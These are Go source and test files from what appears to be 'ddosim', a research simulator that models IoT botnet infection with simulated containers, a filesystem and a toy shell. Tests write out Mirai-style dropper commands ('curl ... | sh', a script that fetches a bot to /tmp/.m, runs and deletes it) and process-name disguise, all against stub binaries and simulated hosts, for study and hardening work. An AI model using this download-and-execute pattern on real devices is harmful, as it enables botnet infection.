	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	var shellErr error
	c.RunShell("curl -s http://10.0.0.1/x -o", func(err error) { shellErr = err })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if shellErr == nil || !strings.Contains(shellErr.Error(), "-o needs a file") {
		t.Fatalf("err = %v", shellErr)
	}
}

func TestImageRefAndEngineAccessors(t *testing.T) {
	r := newRig(t)
	img := devImage("x86_64")
	r.engine.RegisterImage(img)
	if img.Ref() != "ddosim/dev-test:1.0" {
		t.Fatalf("Ref = %q", img.Ref())
	}
	got, ok := r.engine.ImageByRef("ddosim/dev-test:1.0")
	if !ok || got != img {
		t.Fatal("ImageByRef")
	}
	if _, ok := r.engine.ImageByRef("nope"); ok {
		t.Fatal("missing image resolved")
	}
	if r.engine.Sched() != r.sched || r.engine.Star() != r.star {
		t.Fatal("engine accessors")
	}
	if img.SizeBytes() <= img.ExtraBytes {
		t.Fatalf("SizeBytes = %d", img.SizeBytes())
	}
}

func TestProcessGuardsWhenDead(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "testd"}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return stub })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	p := stub.lastProc
	c.Kill(p.PID())
	if _, err := p.ListenTCP(99, nil); err == nil {
		t.Fatal("dead process opened a listener")
	}
	if _, err := p.BindUDP(99, nil); err == nil {
		t.Fatal("dead process bound a socket")
	}
}

func TestProcessExit(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "testd"}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return stub })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	stub.lastProc.Exit(7)
	if stub.lastProc.Alive() {
		t.Fatal("process alive after Exit")
	}
	if len(c.Procs()) != 0 {
		t.Fatal("process table not empty")
	}
	if stub.stopped != 1 {
		t.Fatal("behavior Stop not invoked on Exit")
	}
}
