package container

import (
	"fmt"
	"sort"

	"ddosim/internal/netsim"
	"ddosim/internal/procvm"
)

// Container is a running (or stopped) instance of an Image: a private
// filesystem, a process table, and a network attachment. Its node is
// the NS-3 "ghost node" of the paper — the container believes eth0
// connects it straight to the simulated network.
type Container struct {
	id     string
	name   string
	image  *Image
	arch   string
	fs     *FS
	node   *netsim.Node
	engine *Engine

	procs           map[int]*Process
	nextPID         int
	running         bool
	logs            []string
	removedCommands map[string]bool
}

// RemoveCommand strips a shell command from the container — the
// §IV-C hardening insight ("firmware vendors may choose not to ...
// install the curl command or similar commands").
func (c *Container) RemoveCommand(name string) {
	if c.removedCommands == nil {
		c.removedCommands = make(map[string]bool)
	}
	c.removedCommands[name] = true
}

// HasCommand reports whether the shell command is available.
func (c *Container) HasCommand(name string) bool { return !c.removedCommands[name] }

// ID reports the container id.
func (c *Container) ID() string { return c.id }

// Name reports the container name.
func (c *Container) Name() string { return c.name }

// Image reports the image the container was created from.
func (c *Container) Image() *Image { return c.image }

// Arch reports the container's instruction-set architecture.
func (c *Container) Arch() string { return c.arch }

// FS exposes the container filesystem.
func (c *Container) FS() *FS { return c.fs }

// Node reports the simulated-network attachment.
func (c *Container) Node() *netsim.Node { return c.node }

// Running reports whether the container has been started and not
// stopped.
func (c *Container) Running() bool { return c.running }

// Logs returns the accumulated log lines.
func (c *Container) Logs() []string {
	out := make([]string, len(c.logs))
	copy(out, c.logs)
	return out
}

func (c *Container) logf(format string, args ...any) {
	c.logs = append(c.logs, fmt.Sprintf(format, args...))
}

// Start boots the container: link up, entrypoint exec'd.
func (c *Container) Start() error {
	if c.running {
		return fmt.Errorf("container %s: already running", c.name)
	}
	c.running = true
	c.node.DefaultDevice().SetUp(true)
	if len(c.image.Entrypoint) > 0 {
		if _, err := c.ExecFile(c.image.Entrypoint[0], c.image.Entrypoint[1:]); err != nil {
			return fmt.Errorf("container %s: entrypoint: %w", c.name, err)
		}
	}
	return nil
}

// Stop kills every process and brings the link down.
func (c *Container) Stop() {
	if !c.running {
		return
	}
	for _, p := range c.Procs() {
		c.reap(p)
	}
	c.node.DefaultDevice().SetUp(false)
	c.running = false
}

// Spawn adds a process running the given behaviour.
func (c *Container) Spawn(b Behavior) *Process {
	c.nextPID++
	p := &Process{
		pid:       c.nextPID,
		title:     b.Name(),
		behavior:  b,
		container: c,
		alive:     true,
		tags:      make(map[string]string),
		tcpPorts:  make(map[uint16]bool),
	}
	c.procs[p.pid] = p
	c.engine.procsSpawned.Add(1)
	b.Start(p)
	return p
}

// ExecFile executes a binary from the container filesystem, enforcing
// the execute bit and the architecture match.
func (c *Container) ExecFile(path string, args []string) (*Process, error) {
	data, ok := c.fs.Read(path)
	if !ok {
		return nil, fmt.Errorf("exec %s: no such file", path)
	}
	if !c.fs.IsExec(path) {
		return nil, fmt.Errorf("exec %s: permission denied", path)
	}
	name, arch, ok := ParseBinary(data)
	if !ok {
		return nil, fmt.Errorf("exec %s: exec format error", path)
	}
	if arch != c.arch {
		return nil, fmt.Errorf("exec %s: exec format error (binary is %s, container is %s)", path, arch, c.arch)
	}
	factory, ok := c.engine.factories[name]
	if !ok {
		return nil, fmt.Errorf("exec %s: unknown binary %q", path, name)
	}
	argv := append([]string{path}, args...)
	return c.Spawn(factory(argv)), nil
}

// Procs returns the live processes ordered by pid.
func (c *Container) Procs() []*Process {
	out := make([]*Process, 0, len(c.procs))
	for _, p := range c.procs { //simlint:allow maporder(collect-then-sort: slice is pid-sorted before use)
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].pid < out[j].pid })
	return out
}

// FindByTCPPort returns the live process bound to the given TCP port,
// or nil. Processes are probed in pid order so the answer is
// deterministic even if two processes raced for the same port.
func (c *Container) FindByTCPPort(port uint16) *Process {
	for _, p := range c.Procs() {
		if p.HasTCPPort(port) {
			return p
		}
	}
	return nil
}

// Kill terminates a process by pid.
func (c *Container) Kill(pid int) bool {
	p, ok := c.procs[pid]
	if !ok {
		return false
	}
	c.reap(p)
	return true
}

func (c *Container) reap(p *Process) {
	if !p.alive {
		return
	}
	p.alive = false
	p.behavior.Stop(p)
	p.releaseResources()
	delete(c.procs, p.pid)
}

// MemBytes estimates the container's resident memory: a per-container
// runtime base, the image (binaries loaded on Devs are what Table I's
// pre-attack memory grows with), plus per-process overhead.
func (c *Container) MemBytes() int {
	const (
		containerBase = 2 << 20 // runtime, mounts, cgroup bookkeeping
		perProcess    = 512 << 10
	)
	imageFileBytes := 0
	for _, data := range c.image.Files {
		imageFileBytes += len(data)
	}
	downloaded := c.fs.TotalBytes() - imageFileBytes
	if downloaded < 0 {
		downloaded = 0
	}
	return containerBase + c.image.SizeBytes() + downloaded + len(c.procs)*perProcess
}

// procOS adapts a container to procvm.OS for one daemon process: a
// hijacked daemon's execlp lands here.
type procOS struct {
	c    *Container
	self *Process
}

// ProcOS returns the procvm syscall surface for a daemon process.
func (c *Container) ProcOS(self *Process) procvm.OS {
	return &procOS{c: c, self: self}
}

// ExecShell implements procvm.OS: the daemon's image is replaced by
// `sh -c cmd`, i.e. the daemon dies and the shell runs in its place.
func (o *procOS) ExecShell(cmd string) {
	o.c.logf("[%s] execlp sh -c %q", o.self.title, cmd)
	o.c.reap(o.self)
	o.c.RunShell(cmd, nil)
}

// Exit implements procvm.OS.
func (o *procOS) Exit(code int) {
	o.c.logf("[%s] exit(%d)", o.self.title, code)
	o.self.exitStatus = code
	o.c.reap(o.self)
}
