package container

import (
	"errors"
	"strings"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/shttp"
	"ddosim/internal/sim"
)

// stubBehavior counts lifecycle calls and optionally binds ports.
type stubBehavior struct {
	name     string
	ports    []uint16
	started  int
	stopped  int
	lastProc *Process
}

func (s *stubBehavior) Name() string { return s.name }

func (s *stubBehavior) Start(p *Process) {
	s.started++
	s.lastProc = p
	for _, port := range s.ports {
		if _, err := p.ListenTCP(port, func(*netsim.TCPConn) {}); err != nil {
			p.Logf("listen %d: %v", port, err)
		}
	}
}

func (s *stubBehavior) Stop(*Process) { s.stopped++ }

type testRig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *Engine
}

func newRig(t testing.TB) *testRig {
	t.Helper()
	sched := sim.NewScheduler(9)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &testRig{sched: sched, star: star, engine: NewEngine(sched, star)}
}

func devImage(arch string) *Image {
	return &Image{
		Name: "ddosim/dev-test",
		Tag:  "1.0",
		Arch: arch,
		Files: map[string][]byte{
			"/usr/sbin/testd": BinaryContent("testd", arch),
		},
		ExecPaths:  map[string]bool{"/usr/sbin/testd": true},
		Entrypoint: []string{"/usr/sbin/testd"},
		ExtraBytes: 4 << 20,
	}
}

func (r *testRig) link() LinkConfig {
	return LinkConfig{Rate: 10 * netsim.Mbps, Delay: sim.Millisecond}
}

func TestContainerLifecycle(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "testd"}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return stub })
	r.engine.RegisterImage(devImage("x86_64"))

	c, err := r.engine.Create("ddosim/dev-test:1.0", "dev-1", r.link())
	if err != nil {
		t.Fatal(err)
	}
	if c.Running() {
		t.Fatal("container running before Start")
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	if stub.started != 1 {
		t.Fatalf("entrypoint started %d times", stub.started)
	}
	procs := c.Procs()
	if len(procs) != 1 || procs[0].Title() != "testd" {
		t.Fatalf("procs = %v", procs)
	}
	c.Stop()
	if stub.stopped != 1 {
		t.Fatalf("stopped %d times", stub.stopped)
	}
	if len(c.Procs()) != 0 {
		t.Fatal("process table not empty after Stop")
	}
	if c.Node().DefaultDevice().IsUp() {
		t.Fatal("link still up after Stop")
	}
}

func TestCreateErrors(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterImage(devImage("x86_64"))
	if _, err := r.engine.Create("missing:tag", "x", r.link()); err == nil {
		t.Fatal("unknown image accepted")
	}
	if _, err := r.engine.Create("ddosim/dev-test:1.0", "dup", r.link()); err != nil {
		t.Fatal(err)
	}
	if _, err := r.engine.Create("ddosim/dev-test:1.0", "dup", r.link()); err == nil {
		t.Fatal("duplicate name accepted")
	}
	if _, err := r.engine.Create("ddosim/dev-test:1.0", "norate", LinkConfig{}); err == nil {
		t.Fatal("zero rate accepted")
	}
}

func TestExecFormatChecks(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, err := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}

	// Wrong arch.
	c.FS().Write("/tmp/armbin", BinaryContent("testd", "arm7"))
	if err := c.FS().Chmod("/tmp/armbin", true); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecFile("/tmp/armbin", nil); err == nil || !strings.Contains(err.Error(), "exec format error") {
		t.Fatalf("arm binary on x86 container: err = %v", err)
	}
	// No exec bit.
	c.FS().Write("/tmp/noexec", BinaryContent("testd", "x86_64"))
	if _, err := c.ExecFile("/tmp/noexec", nil); err == nil || !strings.Contains(err.Error(), "permission denied") {
		t.Fatalf("no-exec-bit: err = %v", err)
	}
	// Not a binary.
	c.FS().Write("/tmp/script", []byte("echo hi"))
	if err := c.FS().Chmod("/tmp/script", true); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecFile("/tmp/script", nil); err == nil {
		t.Fatal("non-ELF content executed")
	}
	// Missing file.
	if _, err := c.ExecFile("/tmp/nothing", nil); err == nil {
		t.Fatal("missing file executed")
	}
	// Unregistered binary name.
	c.FS().Write("/tmp/ghost", BinaryContent("ghostd", "x86_64"))
	if err := c.FS().Chmod("/tmp/ghost", true); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecFile("/tmp/ghost", nil); err == nil {
		t.Fatal("unknown binary executed")
	}
}

func TestFindByTCPPortAndKill(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "telnetd", ports: []uint16{23}}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return stub })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	p := c.FindByTCPPort(23)
	if p == nil {
		t.Fatal("process with port 23 not found")
	}
	if c.FindByTCPPort(999) != nil {
		t.Fatal("found process for unbound port")
	}
	if !c.Kill(p.PID()) {
		t.Fatal("kill failed")
	}
	if c.Kill(p.PID()) {
		t.Fatal("double kill reported success")
	}
	if stub.stopped != 1 {
		t.Fatal("behavior.Stop not called")
	}
	// The listener is released: a new process can bind port 23.
	stub2 := &stubBehavior{name: "mirai", ports: []uint16{23}}
	c.Spawn(stub2)
	if got := c.FindByTCPPort(23); got == nil || got.Title() != "mirai" {
		t.Fatal("port 23 not rebindable after kill")
	}
}

func TestProcessTitleObfuscation(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "mirai"}
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	c.running = true
	p := c.Spawn(stub)
	p.SetTitle("dvrHelper")
	if c.Procs()[0].Title() != "dvrHelper" {
		t.Fatal("title not obfuscated")
	}
	p.SetTag("malware", "mirai")
	if p.Tag("malware") != "mirai" {
		t.Fatal("tag lost")
	}
}

func TestShellInfectionFlow(t *testing.T) {
	// Full flow: victim runs `curl -s URL | sh`; the served script
	// downloads an arch-specific bot binary, runs it, removes it.
	r := newRig(t)
	bot := &stubBehavior{name: "mirai"}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterBinary("mirai", func(args []string) Behavior { return bot })
	r.engine.RegisterImage(devImage("x86_64"))

	c, err := r.engine.Create("ddosim/dev-test:1.0", "victim", r.link())
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}

	fileServer := r.star.AttachHost("fs", 10*netsim.Mbps, sim.Millisecond, 0)
	srv, err := shttp.NewServer(fileServer, 80)
	if err != nil {
		t.Fatal(err)
	}
	fsAddr := fileServer.Addr4().String()
	script := strings.Join([]string{
		"#!/bin/sh",
		"curl -s http://" + fsAddr + "/bins/mirai.$(uname -m) -o /tmp/.m",
		"chmod +x /tmp/.m",
		"/tmp/.m &",
		"rm -f /tmp/.m",
	}, "\n")
	srv.Handle("/i.sh", []byte(script))
	srv.Handle("/bins/mirai.x86_64", BinaryContent("mirai", "x86_64"))

	var shellErr error
	done := false
	c.RunShell("curl -s http://"+fsAddr+"/i.sh | sh", func(err error) {
		done, shellErr = true, err
	})
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done {
		t.Fatal("shell never completed")
	}
	if shellErr != nil {
		t.Fatalf("infection script failed: %v", shellErr)
	}
	if bot.started != 1 {
		t.Fatalf("bot started %d times", bot.started)
	}
	if c.FS().Exists("/tmp/.m") {
		t.Fatal("malware binary not removed after execution (Mirai hides itself)")
	}
	// The bot process survives the rm: it is already in memory.
	found := false
	for _, p := range c.Procs() {
		if p.Title() == "mirai" {
			found = true
		}
	}
	if !found {
		t.Fatal("bot process not in process table")
	}
}

func TestShellWrongArchDownloadFails(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterBinary("mirai", func(args []string) Behavior { return &stubBehavior{name: "mirai"} })
	img := devImage("arm7") // ARM container
	r.engine.RegisterImage(img)
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "victim", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	fileServer := r.star.AttachHost("fs", 10*netsim.Mbps, sim.Millisecond, 0)
	srv, err := shttp.NewServer(fileServer, 80)
	if err != nil {
		t.Fatal(err)
	}
	// Server only carries the x86 build.
	srv.Handle("/bot", BinaryContent("mirai", "x86_64"))
	var shellErr error
	c.RunShell(strings.Join([]string{
		"curl -s http://" + fileServer.Addr4().String() + "/bot -o /tmp/bot",
		"chmod +x /tmp/bot",
		"/tmp/bot",
	}, "\n"), func(err error) { shellErr = err })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if shellErr == nil || !strings.Contains(shellErr.Error(), "exec format error") {
		t.Fatalf("x86 bot ran on ARM container: err = %v", shellErr)
	}
}

func TestShellCommandErrors(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	run := func(script string) error {
		var got error
		done := false
		c.RunShell(script, func(err error) { done, got = true, err })
		if err := r.sched.Run(r.sched.Now() + sim.Minute); err != nil {
			t.Fatal(err)
		}
		if !done {
			t.Fatalf("script %q never finished", script)
		}
		return got
	}
	if err := run("rm /no/such/file"); err == nil {
		t.Fatal("rm missing file succeeded")
	}
	if err := run("rm -f /no/such/file"); err != nil {
		t.Fatalf("rm -f missing file failed: %v", err)
	}
	if err := run("chmod +x /no/such/file"); err == nil {
		t.Fatal("chmod missing file succeeded")
	}
	if err := run("curl"); err == nil {
		t.Fatal("curl without URL succeeded")
	}
	if err := run("echo hello\n# comment\n\ntrue"); err != nil {
		t.Fatalf("benign script failed: %v", err)
	}
	if err := run("cat /etc/passwd | sh"); err == nil {
		t.Fatal("unsupported pipeline accepted")
	}
	if err := run("sleep 0.1"); err != nil {
		t.Fatalf("sleep failed: %v", err)
	}
	if err := run("sleep abc"); err == nil {
		t.Fatal("sleep with garbage duration succeeded")
	}
}

func TestShellCurlFailureAborts(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	var shellErr error
	done := false
	// Nothing listens at this address.
	c.RunShell("curl -s http://10.99.99.99/x | sh\necho unreachable", func(err error) {
		done, shellErr = true, err
	})
	if err := r.sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done || shellErr == nil {
		t.Fatalf("done=%v err=%v, want curl failure", done, shellErr)
	}
	if !errors.Is(shellErr, shttp.ErrConnFailed) {
		t.Fatalf("err = %v, want connection failure", shellErr)
	}
}

func TestRemoveCommand(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	if !c.HasCommand("curl") {
		t.Fatal("curl missing by default")
	}
	c.RemoveCommand("curl")
	if c.HasCommand("curl") {
		t.Fatal("curl still present after removal")
	}
	var shellErr error
	done := false
	c.RunShell("curl -s http://10.9.9.9/x | sh", func(err error) { done, shellErr = true, err })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done || shellErr == nil || !strings.Contains(shellErr.Error(), "not found") {
		t.Fatalf("removed curl ran: done=%v err=%v", done, shellErr)
	}
	// Plain (non-piped) invocation is blocked too.
	c.RunShell("curl -s http://10.9.9.9/x -o /tmp/f", func(err error) { shellErr = err })
	if err := r.sched.Run(r.sched.Now() + sim.Minute); err != nil {
		t.Fatal(err)
	}
	if shellErr == nil {
		t.Fatal("non-piped curl ran after removal")
	}
	// Other commands still work.
	c.RunShell("echo ok", func(err error) { shellErr = err })
	if err := r.sched.Run(r.sched.Now() + sim.Minute); err != nil {
		t.Fatal(err)
	}
	if shellErr != nil {
		t.Fatalf("echo failed: %v", shellErr)
	}
}

func TestBuildMultiArch(t *testing.T) {
	base := devImage("x86_64")
	images, err := BuildMultiArch(base, []string{"x86_64", "arm7", "mips"})
	if err != nil {
		t.Fatal(err)
	}
	if len(images) != 3 {
		t.Fatalf("built %d images", len(images))
	}
	arm := images["arm7"]
	if arm.Arch != "arm7" {
		t.Fatalf("arch = %q", arm.Arch)
	}
	name, arch, ok := ParseBinary(arm.Files["/usr/sbin/testd"])
	if !ok || name != "testd" || arch != "arm7" {
		t.Fatalf("rewritten binary = %s/%s ok=%v", name, arch, ok)
	}
	// Base image untouched.
	_, arch, _ = ParseBinary(base.Files["/usr/sbin/testd"])
	if arch != "x86_64" {
		t.Fatal("BuildMultiArch mutated the base image")
	}
	if _, err := BuildMultiArch(base, nil); err == nil {
		t.Fatal("empty arch list accepted")
	}
}

func TestParseBinary(t *testing.T) {
	name, arch, ok := ParseBinary(BinaryContent("connmand", "mips"))
	if !ok || name != "connmand" || arch != "mips" {
		t.Fatalf("got %s/%s/%v", name, arch, ok)
	}
	if _, _, ok := ParseBinary([]byte("#!/bin/sh")); ok {
		t.Fatal("script parsed as binary")
	}
	if _, _, ok := ParseBinary([]byte("ELF:x")); ok {
		t.Fatal("malformed tag accepted")
	}
}

func TestFS(t *testing.T) {
	fs := NewFS()
	fs.Write("/a/b", []byte("data"))
	if got, ok := fs.Read("/a/b"); !ok || string(got) != "data" {
		t.Fatalf("read = %q %v", got, ok)
	}
	// Paths are normalized to absolute.
	if got, ok := fs.Read("a/b"); !ok || string(got) != "data" {
		t.Fatalf("relative read = %q %v", got, ok)
	}
	if fs.IsExec("/a/b") {
		t.Fatal("exec bit set by default")
	}
	if err := fs.Chmod("/a/b", true); err != nil || !fs.IsExec("/a/b") {
		t.Fatalf("chmod: %v", err)
	}
	if fs.TotalBytes() != 4 {
		t.Fatalf("TotalBytes = %d", fs.TotalBytes())
	}
	if got := fs.List(); len(got) != 1 || got[0] != "/a/b" {
		t.Fatalf("List = %v", got)
	}
	if err := fs.Remove("/a/b"); err != nil || fs.Exists("/a/b") {
		t.Fatalf("remove: %v", err)
	}
	if err := fs.Remove("/a/b"); err == nil {
		t.Fatal("double remove succeeded")
	}
}

func TestMemBytesGrowsWithDownloads(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	before := c.MemBytes()
	c.FS().Write("/tmp/downloaded", make([]byte, 1<<20))
	after := c.MemBytes()
	if after <= before {
		t.Fatalf("mem did not grow with download: %d -> %d", before, after)
	}
	if r.engine.TotalMemBytes() != after {
		t.Fatalf("TotalMemBytes = %d, want %d", r.engine.TotalMemBytes(), after)
	}
}

func TestEngineStats(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	for i := 0; i < 3; i++ {
		c, err := r.engine.Create("ddosim/dev-test:1.0", "dev-"+string(rune('a'+i)), r.link())
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
	}
	st := r.engine.Stats()
	if st.ContainersBuilt != 3 || st.ImagesBuilt != 1 || st.ProcsSpawned != 3 {
		t.Fatalf("stats = %+v", st)
	}
	if len(r.engine.Containers()) != 3 {
		t.Fatal("Containers() length")
	}
	if _, ok := r.engine.ByName("dev-a"); !ok {
		t.Fatal("ByName lookup failed")
	}
}
