package container

import (
	"fmt"
	"sort"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// NS3DockerEmulator drives its fleets through docker-compose; this
// file provides the equivalent: a declarative deployment spec that
// creates, configures, and starts groups of containers in one call.

// ServiceSpec describes one service: an image, a replica count, and
// the per-replica network attachment.
type ServiceSpec struct {
	// Name prefixes replica container names: name-001, name-002, ...
	// A single replica is named exactly Name.
	Name string
	// ImageRef selects the registered image.
	ImageRef string
	// Replicas defaults to 1.
	Replicas int
	// Link is the network attachment; RateFor (optional) overrides
	// Link.Rate per replica (e.g. to sample the 100–500 kbps range).
	Link    LinkConfig
	RateFor func(replica int) netsim.DataRate
	// Files are written into each container after creation (e.g.
	// /etc/resolv.conf).
	Files map[string][]byte
	// Setup (optional) runs for each container after Start — the
	// place to spawn non-entrypoint processes.
	Setup func(c *Container, replica int) error
}

// Deployment is a set of services deployed together.
type Deployment struct {
	Services []ServiceSpec
}

// Deploy creates and starts every service, returning the containers
// grouped by service name. On any error the partially-created
// containers are stopped.
func (d Deployment) Deploy(e *Engine) (map[string][]*Container, error) {
	out := make(map[string][]*Container, len(d.Services))
	var created []*Container
	fail := func(err error) (map[string][]*Container, error) {
		for _, c := range created {
			c.Stop()
		}
		return nil, err
	}
	for _, svc := range d.Services {
		replicas := svc.Replicas
		if replicas <= 0 {
			replicas = 1
		}
		if svc.Name == "" {
			return fail(fmt.Errorf("container: compose: service without a name"))
		}
		for i := 1; i <= replicas; i++ {
			name := svc.Name
			if replicas > 1 {
				name = fmt.Sprintf("%s-%03d", svc.Name, i)
			}
			link := svc.Link
			if svc.RateFor != nil {
				link.Rate = svc.RateFor(i)
			}
			c, err := e.Create(svc.ImageRef, name, link)
			if err != nil {
				return fail(fmt.Errorf("container: compose: %s: %w", name, err))
			}
			created = append(created, c)
			paths := make([]string, 0, len(svc.Files))
			for path := range svc.Files { //simlint:allow maporder(collect-then-sort: paths are sorted before the writes)
				paths = append(paths, path)
			}
			sort.Strings(paths)
			for _, path := range paths {
				c.FS().Write(path, svc.Files[path])
			}
			if err := c.Start(); err != nil {
				return fail(fmt.Errorf("container: compose: %s: %w", name, err))
			}
			if svc.Setup != nil {
				if err := svc.Setup(c, i); err != nil {
					return fail(fmt.Errorf("container: compose: %s setup: %w", name, err))
				}
			}
			out[svc.Name] = append(out[svc.Name], c)
		}
	}
	return out, nil
}

// DefaultDevLink is the paper's Dev attachment: 100–500 kbps sampled
// per replica, 2 ms delay. Use it as ServiceSpec.RateFor with the
// scheduler's RNG.
func DefaultDevLink(sched *sim.Scheduler) func(int) netsim.DataRate {
	return func(int) netsim.DataRate {
		return 100*netsim.Kbps +
			netsim.DataRate(sched.RNG().Int63n(int64(400*netsim.Kbps)+1))
	}
}
