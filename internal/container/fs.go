// Package container is DDoSim's stand-in for Docker and
// NS3DockerEmulator's container plumbing: images (with Buildx-style
// multi-arch variants), containers with an in-memory filesystem and a
// process table, a small POSIX-ish shell (curl, chmod, rm, binary
// execution) and the veth/TapBridge-style attachment of each
// container's eth0 to a ghost node in the simulated network.
package container

import (
	"fmt"
	"sort"
	"strings"
)

// File is a filesystem entry.
type File struct {
	Data []byte
	Exec bool
}

// FS is a flat in-memory filesystem keyed by absolute path.
type FS struct {
	files map[string]*File
}

// NewFS returns an empty filesystem.
func NewFS() *FS { return &FS{files: make(map[string]*File)} }

// Write creates or replaces a file.
func (fs *FS) Write(path string, data []byte) {
	fs.files[clean(path)] = &File{Data: data}
}

// Read returns a file's contents.
func (fs *FS) Read(path string) ([]byte, bool) {
	f, ok := fs.files[clean(path)]
	if !ok {
		return nil, false
	}
	return f.Data, true
}

// Chmod sets or clears the execute bit. It fails on missing files.
func (fs *FS) Chmod(path string, exec bool) error {
	f, ok := fs.files[clean(path)]
	if !ok {
		return fmt.Errorf("container: chmod %s: no such file", path)
	}
	f.Exec = exec
	return nil
}

// IsExec reports whether the file exists with its execute bit set.
func (fs *FS) IsExec(path string) bool {
	f, ok := fs.files[clean(path)]
	return ok && f.Exec
}

// Remove deletes a file. It fails on missing files.
func (fs *FS) Remove(path string) error {
	p := clean(path)
	if _, ok := fs.files[p]; !ok {
		return fmt.Errorf("container: rm %s: no such file", path)
	}
	delete(fs.files, p)
	return nil
}

// Exists reports whether a path is present.
func (fs *FS) Exists(path string) bool {
	_, ok := fs.files[clean(path)]
	return ok
}

// List returns all paths in sorted order.
func (fs *FS) List() []string {
	out := make([]string, 0, len(fs.files))
	for p := range fs.files { //simlint:allow maporder(collect-then-sort: paths are sorted before return)
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// TotalBytes reports the sum of file sizes, used by the memory model.
func (fs *FS) TotalBytes() int {
	n := 0
	for _, f := range fs.files {
		n += len(f.Data)
	}
	return n
}

func clean(path string) string {
	path = strings.TrimSpace(path)
	if !strings.HasPrefix(path, "/") {
		path = "/" + path
	}
	return path
}
