package container

import (
	"fmt"
	"sync/atomic"

	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/sim"
)

// EngineStats are the counters the Table I resource model reads.
type EngineStats struct {
	ContainersBuilt int
	ImagesBuilt     int
	ProcsSpawned    int
}

// LinkConfig describes a container's attachment to the simulated
// network.
type LinkConfig struct {
	Rate       netsim.DataRate
	Delay      sim.Time
	QueueLimit int
}

// Engine is the container runtime: it builds images, creates
// containers, bridges them onto the star network, and resolves binary
// names to registered behaviours.
type Engine struct {
	sched *sim.Scheduler
	star  *netsim.Star

	images     map[string]*Image
	containers []*Container
	byName     map[string]*Container
	factories  map[string]BehaviorFactory

	stats EngineStats
	// procsSpawned is kept apart from stats and updated atomically:
